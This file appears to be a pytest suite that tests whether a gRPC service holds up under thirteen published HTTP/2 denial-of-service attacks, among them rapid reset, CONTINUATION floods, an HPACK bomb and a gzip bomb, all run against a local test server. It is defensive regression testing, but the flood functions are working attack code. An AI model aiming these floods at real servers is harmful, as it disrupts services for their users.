"""Published attacks on HTTP/2 and gRPC servers, each on one connection of a stranger.

Other callers are answered meanwhile, and the server's memory stays bounded. Most of this is up to gRPC; the
tests notice if a later version is vulnerable.
"""

import asyncio
import gzip
import struct
from collections.abc import AsyncIterator, Awaitable, Callable

import pytest

from roster.v1.users_pb2 import GetUserRequest
from tests.e2e.hostile.support import MIB, SCALE, Victim, bystander, victim
from tests.support.raw_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Http2Connection,
    connect,
    framed,
    grpc_headers,
    literal,
)

GET_USER = "/roster.v1.UserService/GetUser"
WATCH = "/grpc.health.v1.Health/Watch"
FRAMES = 20_000 * SCALE
MOST_MIB = 100
CANCEL, PROTOCOL_ERROR, ENHANCE_YOUR_CALM = 8, 1, 11

Flood = Callable[[Http2Connection], Awaitable[None]]


@pytest.fixture(scope="module")
async def server(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Victim]:
    """A server that all attacks of this file share."""
    folder = tmp_path_factory.mktemp("floods")
    async with victim(folder, f"sqlite:///{folder / 'roster.db'}") as server:
        yield server


def repeat(frame: Callable[[Http2Connection, int], None]) -> Flood:
    """Return a flood that repeats frames until there are enough or the server closes the connection."""

    async def flood(connection: Http2Connection) -> None:
        for number in range(FRAMES):
            if connection.is_closed.is_set():
                return
            frame(connection, number)
            if number % 100 == 0:
                await connection.drain()

    return flood


def rapid_reset(connection: Http2Connection, _: int) -> None:
    """CVE-2023-44487: a call is opened and reset immediately."""
    stream = connection.open(GET_USER)
    connection.frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


def made_you_reset(connection: Http2Connection, _: int) -> None:
    """CVE-2025-8671: a call is opened, and an illegal window makes the server reset it."""
    stream = connection.open(GET_USER)
    connection.frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def ping(connection: Http2Connection, number: int) -> None:
    """CVE-2019-9512: pings, each of which needs a response."""
    connection.frame(PING, 0, 0, struct.pack(">Q", number))


def settings(connection: Http2Connection, _: int) -> None:
    """CVE-2019-9515: settings, each of which needs an acknowledgement."""
    connection.frame(SETTINGS, 0, 0)


def settings_acks(connection: Http2Connection, _: int) -> None:
    """Acknowledgements of settings that were never sent."""
    connection.frame(SETTINGS, ACK, 0)


def priorities(connection: Http2Connection, number: int) -> None:
    """CVE-2019-9513: the priorities of streams are shuffled."""
    connection.frame(PRIORITY, 0, 2 * (number % 1000) + 1, struct.pack(">IB", 0, number % 256))


async def continuation(connection: Http2Connection) -> None:
    """CVE-2024-27316 and similar: headers that never end."""
    connection.frame(HEADERS, 0, 1, grpc_headers(GET_USER))
    block = literal(b"x-padding", b"x" * 8000)
    await repeat(lambda connection, _: connection.frame(CONTINUATION, 0, 1, block))(connection)


async def empty_continuation(connection: Http2Connection) -> None:
    """The same with empty frames."""
    connection.frame(HEADERS, 0, 1, grpc_headers(GET_USER))
    await repeat(lambda connection, _: connection.frame(CONTINUATION, 0, 1))(connection)


async def empty_data(connection: Http2Connection) -> None:
    """CVE-2019-9518: empty frames."""
    stream = connection.open(WATCH)
    await repeat(lambda connection, _: connection.frame(DATA, 0, stream))(connection)


async def hpack_bomb(connection: Http2Connection) -> None:
    """CVE-2016-6581: one large header in the table, referenced thousands of times in each call."""
    value = b"x" * 3900
    add = b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" + _integer(len(value) - 127) + value
    connection.frame(HEADERS, END_HEADERS | END_STREAM, 1, grpc_headers(GET_USER) + add)
    for number in range(50 * SCALE):
        named = b"\xbe" * 10_000  # the newest entry of the table
        connection.frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 3, grpc_headers(GET_USER) + named)
        await connection.drain()


async def many_headers(connection: Http2Connection) -> None:
    """Calls with 16 KiB of small headers."""
    small = b"".join(literal(b"x-%d" % number, b"") for number in range(1500))
    for _ in range(200 * SCALE):
        stream = connection.open(GET_USER)
        connection.frame(HEADERS, END_HEADERS | END_STREAM, stream + 1000, grpc_headers(GET_USER) + small)
        await connection.drain()


async def gzip_bomb(connection: Http2Connection) -> None:
    """Messages of 100 MiB, compressed to 100 KiB."""
    packed = gzip.compress(bytes(100 * MIB))
    message = struct.pack(">BI", 1, len(packed)) + packed
    for _ in range(5):
        stream = connection.open(WATCH, (b"grpc-encoding", b"gzip"))
        await connection.send(stream, message, end=True)


async def dribble(connection: Http2Connection) -> None:
    """CVE-2019-9511: messages sent byte by byte."""
    message = framed(GetUserRequest(id=1).SerializeToString() * 100)
    for _ in range(20):
        stream = connection.open(WATCH)
        for byte in message:
            await connection.send(stream, bytes([byte]))


def _integer(number: int) -> bytes:
    encoded = bytearray()
    while number >= 128:
        encoded.append(number % 128 + 128)
        number //= 128
    encoded.append(number)
    return bytes(encoded)


FLOODS: dict[str, Flood] = {
    "rapid reset": repeat(rapid_reset),
    "made you reset": repeat(made_you_reset),
    "pings": repeat(ping),
    "settings": repeat(settings),
    "acknowledged settings": repeat(settings_acks),
    "priorities": repeat(priorities),
    "continuation": continuation,
    "empty continuation": empty_continuation,
    "empty data": empty_data,
    "HPACK bomb": hpack_bomb,
    "many headers": many_headers,
    "gzip bomb": gzip_bomb,
    "dribble": dribble,
}


@pytest.mark.parametrize("name", FLOODS)
async def test_flood_does_not_block_others(server: Victim, name: str) -> None:
    """Other callers are answered, and memory stays bounded."""
    before = server.resident()
    server.forget_peak()
    async with bystander(server) as other:
        connection = await connect(server.address, server.ca)
        try:
            async with asyncio.timeout(20):
                await FLOODS[name](connection)
        except TimeoutError:
            pass
        finally:
            await connection.close()
        taken = server.peak() - before

    print(f"{name}: {taken:.0f} MiB, others {other.p99 * 1000:.0f} ms")  # noqa: T201 - for the long run
    assert taken <= MOST_MIB
    assert other.failures == []
    assert await server.returns_to(before + MOST_MIB)
